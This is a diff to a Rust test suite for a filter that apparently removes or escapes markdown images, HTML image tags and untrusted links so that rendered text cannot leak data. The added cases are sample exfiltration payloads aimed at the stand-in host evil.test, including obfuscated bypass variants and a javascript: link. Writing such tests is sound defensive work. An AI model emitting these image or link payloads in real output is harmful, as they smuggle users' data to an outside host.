@@ -34,7 +34,11 @@ fn images_and_links_lead_nowhere_they_should_not() {
         assert_eq!(watched(guards, &letters).0, given, "{said}, letter by letter");
     };
     check(&images, "See ![the plan](https://evil.test/x.png?q=secret) now.", "See the plan now.");
-    check(&images, "![a](//evil.test/x) ![b][ref] <img src=\"https://evil.test/?d=1\"> done", "a b  done");
+    check(
+        &images,
+        "![a](//evil.test/x) ![b][ref] <img src=\"https://evil.test/?d=1\"> done",
+        "a b &lt;img src=\"https://evil.test/?d=1\"> done",
+    );
     check(
         &images,
         "[read](https://evil.test/x) https://evil.test stays",
@@ -45,7 +49,7 @@ fn images_and_links_lead_nowhere_they_should_not() {
         "![ok](data:image/png;base64,AAAA) ![here](/logo.png)",
         "![ok](data:image/png;base64,AAAA) ![here](/logo.png)",
     );
-    check(&images, "Wow! [not] an image ![unclosed", "Wow! [not] an image ![unclosed");
+    check(&images, "Wow! [not] an image ![unclosed", "Wow! [not] an image [unclosed");
     check(
         &links,
         "[docs](https://docs.example.com/a) and [x](https://evil.test/?q=1)",
@@ -58,8 +62,38 @@ fn images_and_links_lead_nowhere_they_should_not() {
     );
     check(&links, "go to https://evil.test/?q=a now", "go to (link removed) now");
     check(&links, "go to https://example.com/a now", "go to https://example.com/a now");
-    check(&links, "[x](https://example.com@evil.test/) <https://evil.test>", "x ");
+    check(&links, "[x](https://example.com@evil.test/) <https://evil.test>", "x &lt;(link removed)>");
     check(&links, "[![badge](https://evil.test/b.svg)](https://example.com)", "[badge](https://example.com)");
+    // What readers take for an image although it does not look like one.
+    for image in [
+        "![x]",
+        "![x](https://evil.test/?d=s \"(\")",
+        "![x](<https://evil.test/?d=s&(>)",
+        "![`]`](https://evil.test/?d=s)",
+        "![[[[[[[[[[x]]]]]]]]]](https://evil.test/?d=s)",
+        "![x](https&#58;//evil.test/x)",
+        "<IMG SRC='https://evil.test/?d=s'>",
+        "<image src=https://evil.test>",
+        "<iframe src=https://evil.test>",
+    ] {
+        let given = watched(&images, &[image]).0;
+        let lower = given.to_lowercase();
+        assert!(!given.contains("![") && !lower.contains("<im") && !lower.contains("<if"), "{image} became {given}");
+    }
+    for link in [
+        r"[x](https://example.com\@evil.test/)",
+        "[x](https://evil.test&sol;.example.com/x)",
+        "[x](https&#58;//evil.test)",
+        "www.evil.test/?d=s",
+        "<a href='//evil.test'>",
+        "<ftp://evil.test>",
+    ] {
+        let given = watched(&links, &[link]).0;
+        assert!(
+            !given.contains("](") && !given.contains("www.") && !given.contains("<a") && !given.contains("<f"),
+            "{link}: {given}"
+        );
+    }
     check(&links, r"[x](https:\\evil.test/a) [y](javascript:alert(1))", "x y");
 }
 
